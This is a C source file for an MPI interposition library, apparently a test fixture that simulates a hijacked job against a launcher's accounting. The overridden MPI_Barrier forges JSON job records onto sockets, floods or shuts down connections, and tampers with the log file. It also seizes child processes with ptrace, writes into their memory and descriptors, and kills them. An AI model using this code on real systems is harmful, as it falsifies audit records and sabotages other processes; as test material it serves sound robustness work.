// An MPI library that was taken over once the wall was up: its MPI_Barrier would change what the machine notes of the job, in the way of the
// number TAKEN_OVER_WAY. TAKEN_OVER_LOG is the file of the notes. All else is the real library's, with which it is linked.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

int PMPI_Barrier(void *comm);

enum { WORD = 20, MANY = 1 << 20 };
static const char forged[] = "{\"programs\":[{\"file\":\"forged\",\"digest\":\"\",\"signer\":null}],\"engine\":\"local\",\"ranks\":9}\n";
static const char *log_file;

static void say(int fd, const void *bytes, size_t length)
{
    while (length > 0) {
        ssize_t sent = send(fd, bytes, length, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (sent <= 0)
            return;
        bytes = (const char *)bytes + sent;
        length -= sent;
    }
}

// A status, seconds of processors, bytes.
static void end_with(int fd, int status, double seconds)
{
    char word[WORD] = {0};
    memcpy(word, &status, sizeof status);
    memcpy(word + sizeof status, &seconds, sizeof seconds);
    say(fd, word, sizeof word);
}

static void send_descriptor(int fd)
{
    char room[CMSG_SPACE(sizeof(int))] = {0};
    int status = 0, given = 0;
    struct iovec bytes = {&status, sizeof status};
    struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    *head = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
    memcpy(CMSG_DATA(head), &given, sizeof given);
    sendmsg(fd, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
}

static void describe_again(int fd)
{
    unsigned long length = strlen(forged);
    say(fd, &length, sizeof length);
    say(fd, forged, length);
}

// To whoever is at the other end of the process's sockets, but the launcher.
static void tell_all(int way)
{
    static char zeros[MANY];
    const char *pmi = getenv("PMI_FD");
    for (int fd = 3; fd < 1024; fd++) {
        struct stat stat;
        if (fstat(fd, &stat) != 0 || !(S_ISSOCK(stat.st_mode) || S_ISFIFO(stat.st_mode)) || (pmi && atoi(pmi) == fd))
            continue;
        switch (way) {
        case 1: end_with(fd, 0, 0); break;
        case 2: end_with(fd, 0, 0), end_with(fd, 7, 1), end_with(fd, 8, 2); break;
        case 3: say(fd, forged, strlen(forged)); break;
        case 4: say(fd, zeros, 7); break;
        case 5: say(fd, zeros, sizeof zeros), say(fd, zeros, sizeof zeros); break;
        case 6: shutdown(fd, SHUT_RDWR); break;
        case 7: describe_again(fd); break;
        case 8: send_descriptor(fd); break;
        case 9: end_with(fd, 0, -1.0 / 0.0); break;
        }
    }
}

static void change_by_name(void)
{
    char other[4096];
    snprintf(other, sizeof other, "%s.other", log_file);
    int fd = open(log_file, O_WRONLY | O_APPEND);
    if (fd >= 0)
        write(fd, forged, strlen(forged));
    fd = open(log_file, O_RDWR | O_TRUNC);
    truncate(log_file, 0);
    rename(log_file, other);
    link(log_file, other);
    unlink(log_file);
    chmod(log_file, 0666);
}

// The processes that this one, or its launcher, has started.
static void attack_processes(void)
{
    DIR *all = opendir("/proc");
    for (struct dirent *entry; all && (entry = readdir(all));) {
        int pid = atoi(entry->d_name), parent = 0;
        char name[300], text[512] = {0};
        snprintf(name, sizeof name, "/proc/%s/stat", entry->d_name);
        int fd = open(name, O_RDONLY);
        if (fd >= 0)
            read(fd, text, sizeof text - 1), close(fd);
        const char *rest = strrchr(text, ')');
        if (pid <= 1 || rest == NULL || sscanf(rest, ") %*c %d", &parent) != 1 || parent != getpid())
            continue;
        struct rlimit none = {0, 0};
        struct iovec here = {text, 8}, there = {(void *)0x10000, 8};
        prlimit(pid, RLIMIT_FSIZE, &none, NULL);
        ptrace(PTRACE_SEIZE, pid, 0, 0);
        process_vm_writev(pid, &here, 1, &there, 1, 0);
        for (int number = 0; number < 64; number++) {
            snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, number);
            if ((fd = open(name, O_WRONLY | O_APPEND)) >= 0)
                write(fd, forged, strlen(forged));
        }
        snprintf(name, sizeof name, "/proc/%d/mem", pid);
        open(name, O_RDWR);
        syscall(SYS_pidfd_send_signal, syscall(SYS_pidfd_open, pid, 0), SIGKILL, NULL, 0);
        kill(pid, SIGSTOP);
        kill(pid, SIGKILL);
    }
}

int MPI_Barrier(void *comm)
{
    static int done;
    if (done++)
        return PMPI_Barrier(comm);
    int way = atoi(getenv("TAKEN_OVER_WAY"));
    log_file = getenv("TAKEN_OVER_LOG");
    fprintf(stderr, "taken over: way %d\n", way);
    tell_all(way);
    if (way == 10)
        change_by_name();
    if (way == 11)
        attack_processes();
    // And without another word, for which there is no room where too much was said.
    if (way == 0 || way == 4 || way == 5)
        _exit(0);
    return PMPI_Barrier(comm);
}
